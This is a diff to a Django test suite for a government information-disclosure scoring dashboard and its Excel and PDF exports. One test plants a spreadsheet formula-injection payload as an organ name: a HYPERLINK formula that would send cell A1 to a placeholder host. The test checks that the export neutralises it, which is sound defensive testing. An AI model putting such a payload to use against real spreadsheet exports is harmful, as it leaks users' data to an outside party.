@@ -1,5 +1,6 @@
 """The dashboard, the organ page and the Excel export: who sees what, sorting, the file read back."""
 
+import datetime as dt
 import io
 import re
 
@@ -71,8 +72,10 @@ def test_sorting_by_score(counted):
     w = counted
     up = assert_may(w.city_supervisor, DASH + "?year=2025&sort=score").content.decode()
     down = assert_may(w.city_supervisor, DASH + "?year=2025&sort=-score").content.decode()
-    assert scores_in(up) == sorted(scores_in(up)) and len(scores_in(up)) == 4
+    # 岭东区人民政府 has nothing in 2025: 不参评, "—", listed last either way
+    assert scores_in(up) == sorted(scores_in(up)) and len(scores_in(up)) == 3
     assert scores_in(down) == sorted(scores_in(up), reverse=True)
+    assert up.count('<td class="num score">—</td>') == 1 and down.rstrip().count("不参评") >= 1
     assert 'sort=-score" data-sort="score"' in up  # the header link flips the direction
     assert 'sort=score" data-sort="score"' in down
     assert_may(w.city_supervisor, DASH + "?year=abc&sort=nonsense")  # ignored, not an error
@@ -88,20 +91,35 @@ def test_organ_page_lists_what_is_behind_the_numbers(counted):
     assert "国办秘函〔2019〕19号" in text and "第三十三条" in text
 
 
-def test_excel_export_reads_back(counted):
+def test_excel_export_reads_back_with_numbers_and_the_rules(counted):
     w = counted
     response = assert_may(w.district_supervisor, EXPORT + "?year=2025")
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    assert response["Content-Disposition"] == 'attachment; filename="supervision-2025.xlsx"'
     wb = openpyxl.load_workbook(io.BytesIO(response.content))
     ws = wb["考评"]
-    header = [c.value for c in ws[2]]
-    assert header[:5] == ["排名", "机关", "机关代码", "得分", "结论"]
-    rows = {r[1]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=3, values_only=True)}
+    assert [ws["A2"].value, ws["B2"].value] == ["制表单位", w.district.name]
+    assert ws["A3"].value == "统计截止日" and ws["B3"].value.date() == dt.date(2025, 12, 31)
+    header = [c.value for c in ws[6]]
+    assert header[:9] == ["排名", "机关", "机关代码", "得分", "结论", "单项否决", "扣分合计", "加分", "人工扣分"]
+    assert ws.freeze_panes == "C7" and ws.auto_filter.ref == f"A6:{openpyxl.utils.get_column_letter(len(header))}9"
+    rows = {r[1]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=7, values_only=True)}
     assert set(rows) == {w.district.name, w.fgj.name, w.jyj.name}
     fgj = rows[w.fgj.name]
-    assert fgj["按期答复率"] == "80.0%" and fgj["平均办理用时（工作日）"] == "19.8" and fgj["超期未答复"] == "1"
-    assert fgj["年度报告逾期"] == "是"
-    assert wb["指标说明"].max_row > 10
+    assert fgj["按期答复率"] == pytest.approx(0.8) and fgj["平均办理用时（工作日）"] == 19.8 and fgj["超期未答复"] == 1
+    assert fgj["年度报告逾期"] == "是" and isinstance(fgj["得分"], float) and isinstance(fgj["排名"], int)
+    assert fgj["扣分：逾期答复"] == 1 and fgj["扣分：年度报告逾期"] == 10
+    assert fgj["扣分合计"] == pytest.approx(100 - fgj["得分"])
+    rate_col = header.index("按期答复率") + 1
+    fgj_row = next(r for r in range(7, 10) if ws.cell(row=r, column=2).value == w.fgj.name)
+    assert ws.cell(row=fgj_row, column=rate_col).data_type == "n"
+    assert ws.cell(row=fgj_row, column=rate_col).number_format == "0.0%"
+    district = rows[w.district.name]
+    assert (district["结论"], district["排名"], district["得分"]) == ("不参评", None, None)
+    rules = wb["评分细则"]
+    text = "\n".join(str(c) for row in rules.iter_rows(values_only=True) for c in row if c is not None)
+    assert "逾期答复" in text and "每件扣1分，最多扣15分" in text and "达到5个单项否决" in text and "合格分数线" in text
+    assert wb["指标说明"].max_row > 10 and "人工加分扣分" in wb.sheetnames
 
 
 EXPORT_PDF = reverse("supervision:export_pdf")
@@ -115,14 +133,16 @@ def pdf_text(response) -> str:
         return "\n".join(page.extract_text() or "" for page in pdf.pages)
 
 
-def test_pdf_export_has_the_ranked_table_and_definitions(counted):
+def test_pdf_export_has_the_ranked_table_the_deductions_and_the_rules(counted):
     w = counted
     sheet = openpyxl.load_workbook(io.BytesIO(assert_may(w.city_supervisor, EXPORT + "?year=2025").content))["考评"]
-    expected = [(r[1], r[3]) for r in sheet.iter_rows(min_row=3, values_only=True)]  # (机关, 得分) in rank order
+    expected = [(r[1], r[3]) for r in sheet.iter_rows(min_row=7, values_only=True) if r[3] is not None]
     response = assert_may(w.city_supervisor, EXPORT_PDF + "?year=2025")
     assert response["Content-Disposition"] == 'attachment; filename="supervision-2025.pdf"'
     text = pdf_text(response)
-    assert "政府信息公开考评（2025年）" in text and "指标定义和依据" in text and "国办秘函〔2019〕19号" in text
+    for expected_text in ("政府信息公开考评（2025年）", "指标定义和依据", "国办秘函〔2019〕19号", "制表单位：双鸭山市人民政府",
+                          "统计截止日：2025年12月31日", "评分细则", "各指标扣分", "每件扣1分，最多扣15分"):
+        assert expected_text in text, expected_text
     lines = text.splitlines()
     found = []
     for name, score in expected:
@@ -130,7 +150,7 @@ def test_pdf_export_has_the_ranked_table_and_definitions(counted):
         cells = lines[line].split()  # 排名 机关 得分 结论 …
         assert float(cells[cells.index(name) + 1]) == float(score), (name, score, lines[line])
         found.append(line)
-    assert found == sorted(found) and len(found) == 4  # rank order
+    assert found == sorted(found) and len(found) == 3  # rank order
 
 
 def test_pdf_export_is_scoped_like_the_dashboard(counted, world):
@@ -149,7 +169,7 @@ def test_excel_cells_from_untrusted_text_are_never_formulas(counted):
     w.jyj.name = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
     w.jyj.save(update_fields=["name"])
     wb = openpyxl.load_workbook(io.BytesIO(assert_may(w.district_supervisor, EXPORT + "?year=2025").content))
-    names = [row[1] for row in wb["考评"].iter_rows(min_row=3, values_only=True)]
+    names = [row[1] for row in wb["考评"].iter_rows(min_row=7, values_only=True)]
     assert "'" + w.jyj.name in names
     assert not any(isinstance(n, str) and n.startswith("=") for n in names)
     assert all(c.data_type != "f" for row in wb["考评"].iter_rows() for c in row)
